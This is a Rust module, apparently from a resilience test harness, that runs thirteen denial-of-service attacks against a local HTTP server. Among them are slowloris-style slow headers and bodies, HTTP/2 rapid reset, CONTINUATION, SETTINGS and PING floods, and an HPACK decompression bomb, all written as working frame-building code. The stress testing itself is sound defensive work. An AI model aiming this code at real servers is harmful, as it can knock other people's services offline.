//! The attacks. Each runs in a process of its own, by several workers, again and again until its time is
//! over, and tells how its connections ended.

use std::collections::BTreeMap;
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper_util::rt::TokioIo;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, timeout_at};

use super::Failure;
use super::client::Client;
use super::h2_raw::{END_HEADERS, END_STREAM, Wire, fields, frame, get, get_frame, kind, stream};

pub const NAMES: [&str; 13] = [
    "handshake flood",
    "slow headers",
    "slow bodies",
    "slow readers",
    "idle connections",
    "rapid reset",
    "CONTINUATION flood",
    "SETTINGS flood",
    "PING flood",
    "empty DATA",
    "HPACK bomb",
    "field list of 1 MB",
    "refused requests",
];

/// Frames of one flood.
const MANY: usize = 100_000;
/// Connections that flood at once.
const FLOODERS: usize = 4;

/// How connections ended, and how often each.
type Ends = Arc<Mutex<BTreeMap<String, usize>>>;

/// Runs an attack for so long; what became of its connections.
pub async fn run(name: &str, client: Client, time: Duration) -> String {
    let until = Instant::now() + time;
    let ends = Ends::default();
    let workers = match name {
        "handshake flood" => 16,
        "slow headers" | "slow bodies" => 64,
        "slow readers" => 32,
        "idle connections" => 240,
        _ => FLOODERS,
    };
    let work =
        (0..workers).map(|_| tokio::spawn(work(name.to_owned(), client.clone(), until, Arc::clone(&ends))));
    for worker in work.collect::<Vec<_>>() {
        let _ = timeout_at(until + Duration::from_secs(1), worker).await;
    }
    let mut told: Vec<String> =
        ends.lock().expect("ends").iter().map(|(end, times)| format!("{end}: {times}")).collect();
    for (what, count) in [("turned away before TLS", &client.turned_away), ("answered", &client.answered)] {
        let count = count.load(Ordering::Relaxed);
        if count > 0 {
            told.push(format!("{what}: {count}"));
        }
    }
    told.join("; ")
}

async fn work(name: String, client: Client, until: Instant, ends: Ends) {
    while Instant::now() < until {
        let end = match timeout_at(until, once(&name, &client)).await {
            Ok(Ok(end)) => end,
            Ok(Err(_)) => "closed".to_owned(),
            Err(_) => "still open".to_owned(),
        };
        *ends.lock().expect("ends").entry(end).or_default() += 1;
    }
}

/// One connection, from its beginning to its end.
async fn once(name: &str, client: &Client) -> Result<String, Failure> {
    match name {
        "handshake flood" => {
            drop(client.raw_with(b"h2").await?);
            Ok("handshakes done".to_owned())
        }
        "slow headers" => drip(client, "GET /orders/1 HTTP/1.1\r\nHost: localhost\r\n").await,
        "slow bodies" => {
            let head = "POST /orders/1/notes HTTP/1.1\r\nHost: localhost\r\n\
                        Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"note\":\"";
            drip(client, head).await
        }
        "slow readers" => deaf(client).await,
        "idle connections" => {
            let mut stream = client.raw_with(b"http/1.1").await?;
            until_closed(&mut stream).await
        }
        "refused requests" => refused(client).await,
        flood => {
            let ended = Wire::open(client).await.flood(MANY, frames(flood)).await;
            Ok(match ended.code() {
                Some(code) => format!("GOAWAY {code}"),
                None => "closed without GOAWAY".to_owned(),
            })
        }
    }
}

fn frames(flood: &str) -> fn(usize) -> Vec<u8> {
    match flood {
        "rapid reset" => |n| {
            let reset = frame(kind::RST_STREAM, 0, stream(n), &8u32.to_be_bytes());
            [get_frame(stream(n), "/orders/1"), reset].concat()
        },
        "CONTINUATION flood" => |n| match n {
            0 => frame(kind::HEADERS, END_STREAM, 1, &get("/orders/1")),
            _ => frame(kind::CONTINUATION, 0, 1, &fields(&[("a", "b")])),
        },
        "SETTINGS flood" => |_| frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
        "PING flood" => |_| frame(kind::PING, 0, 0, b"12345678"),
        "empty DATA" => |n| if n == 0 { post() } else { frame(kind::DATA, 0, 1, b"") },
        "HPACK bomb" => |n| {
            // One entry in the table, and 12,000 references to it: 36 MB.
            let mut block = get("/orders/1");
            block.push(0x40);
            block.extend_from_slice(&fields(&[("x", &"a".repeat(3000))])[1..]);
            block.extend_from_slice(&[0x80 | 62; 12_000]);
            frame(kind::HEADERS, END_STREAM | END_HEADERS, stream(n), &block)
        },
        _ => |n| match n {
            0 => frame(kind::HEADERS, END_STREAM, 1, &get("/orders/1")),
            _ => frame(kind::CONTINUATION, 0, 1, &fields(&[("x", &"a".repeat(16_000))])),
        },
    }
}

/// The head of a request whose body is to come.
fn post() -> Vec<u8> {
    let head = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", "/orders/1/notes"),
        ("content-type", "application/json"),
    ];
    frame(kind::HEADERS, END_HEADERS, 1, &fields(&head))
}

/// Sends this at once, and then a byte at a time.
async fn drip(client: &Client, at_once: &str) -> Result<String, Failure> {
    let (mut reader, mut writer) = tokio::io::split(client.raw_with(b"http/1.1").await?);
    writer.write_all(at_once.as_bytes()).await?;
    let dripping = async {
        while writer.write_all(b"x").await.is_ok() && writer.flush().await.is_ok() {
            sleep(Duration::from_millis(100)).await;
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        ended = until_closed(&mut reader) => ended,
        () = dripping => Ok(String::new()),
    }
}

/// Asks for a large list, and reads none of it until it is too late.
async fn deaf(client: &Client) -> Result<String, Failure> {
    let mut stream = client.raw_with(b"http/1.1").await?;
    stream.write_all(b"GET /orders HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
    stream.flush().await?;
    sleep(Duration::from_millis(3500)).await;
    let mut bytes = Vec::new();
    let _ = stream.read_to_end(&mut bytes).await;
    let whole = bytes.ends_with(b"0\r\n\r\n");
    Ok(if whole { "whole".to_owned() } else { format!("cut off after {} KiB", bytes.len() >> 10) })
}

/// Asks for what it may not have, as fast as it goes.
async fn refused(client: &Client) -> Result<String, Failure> {
    let stream = client.raw_with(b"http/1.1").await?;
    let (mut sender, connection) = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await?;
    tokio::spawn(connection);
    let request = Request::get("/customers").header("host", "localhost").body(Full::<Bytes>::default())?;
    sender.ready().await?;
    loop {
        let response = sender.send_request(request.clone()).await?;
        response.into_body().collect().await?;
        client.answered.fetch_add(1, Ordering::Relaxed);
        sender.ready().await?;
    }
}

/// Reads until the other side closes; the status of an answer, where there was one.
async fn until_closed(stream: &mut (impl AsyncReadExt + Unpin)) -> Result<String, Failure> {
    let mut bytes = Vec::new();
    let _ = stream.read_to_end(&mut bytes).await;
    let text = String::from_utf8_lossy(&bytes);
    Ok(text.split(' ').nth(1).map_or_else(|| "closed".to_owned(), |status| format!("{status} and closed")))
}
